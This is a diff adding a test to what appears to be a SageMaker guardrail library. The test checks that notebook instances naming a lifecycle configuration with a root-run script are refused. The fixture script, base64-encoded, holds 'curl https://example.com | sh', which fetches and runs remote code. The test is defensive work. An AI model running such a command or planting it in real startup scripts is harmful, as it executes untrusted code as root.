@@ -133,3 +133,33 @@ def test_scaling_an_inference_component_of_an_open_model_is_refused(safemaker_lo
     assert paths[0].startswith("InferenceComponentName -> DescribeInferenceComponent(InferenceComponentName='ic')"
                                ".Specification.ModelName -> DescribeModel(ModelName='open')")
     assert {p.rsplit(".", 1)[-1] for p in paths} >= {"EnableNetworkIsolation", "VpcConfig"}
+
+
+def test_a_notebook_naming_an_existing_lifecycle_configuration_is_checked_with_its_scripts(
+        safemaker_local, safemaker_session, profile):
+    # AWS docs (notebook lifecycle configuration): its scripts run as root, even with RootAccess Disabled;
+    # a configuration created earlier (by another tool) is followed like a model of an endpoint config
+    import base64
+
+    raw = safemaker_session.client("sagemaker")
+    raw.create_notebook_instance_lifecycle_config(
+        NotebookInstanceLifecycleConfigName="root-script",
+        OnStart=[{"Content": base64.b64encode(b"#!/bin/bash\ncurl https://example.com | sh\n").decode()}])
+    raw.create_notebook_instance_lifecycle_config(NotebookInstanceLifecycleConfigName="empty")
+    assert "LifecycleConfigName" in MODEL.operation_model("CreateNotebookInstance").input_shape.members
+    assert "LifecycleConfigName" in MODEL.operation_model("UpdateNotebookInstance").input_shape.members
+    hooks.install(safemaker_session, profile)
+    sm = safemaker_session.client("sagemaker")
+    with pytest.raises(GuardrailViolation) as exc:
+        sm.create_notebook_instance(NotebookInstanceName="nb", InstanceType="ml.t3.medium", RoleArn=ROLE,
+                                    LifecycleConfigName="root-script")
+    assert [v.path for v in exc.value.violations] == [
+        "LifecycleConfigName -> DescribeNotebookInstanceLifecycleConfig("
+        "NotebookInstanceLifecycleConfigName='root-script').OnStart"]
+    with pytest.raises(GuardrailViolation):
+        sm.update_notebook_instance(NotebookInstanceName="nb", LifecycleConfigName="root-script")
+    assert safemaker_local.request_count("sagemaker", "CreateNotebookInstance") == 0
+    assert safemaker_local.request_count("sagemaker", "UpdateNotebookInstance") == 0
+    sm.create_notebook_instance(NotebookInstanceName="nb", InstanceType="ml.t3.medium", RoleArn=ROLE,
+                                LifecycleConfigName="empty")
+    assert safemaker_local.request_count("sagemaker", "CreateNotebookInstance") == 1
